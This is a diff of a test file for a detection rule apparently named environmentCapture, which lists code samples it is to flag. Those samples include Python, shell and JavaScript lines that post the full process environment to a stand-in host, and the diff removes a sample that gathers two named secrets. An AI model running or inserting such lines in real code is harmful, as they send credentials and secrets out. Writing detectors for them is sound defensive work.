@@ -6,9 +6,6 @@ describeCodeRule(environmentCapture, {
     py('import os, requests\nrequests.post("https://drop.example.invalid", json=dict(os.environ))'),
     sh('env | curl -d @- https://drop.example.invalid'),
     js('fetch("https://drop.example.invalid", { method: "POST", body: JSON.stringify(process.env) })'),
-    py(
-      'import os, json\nkeys = {\n  "a": os.environ["SHOP_API_KEY"],\n  "b": os.environ["MAIL_SECRET"],\n}\npayload = json.dumps(keys)',
-    ),
   ],
   quiet: [
     js(
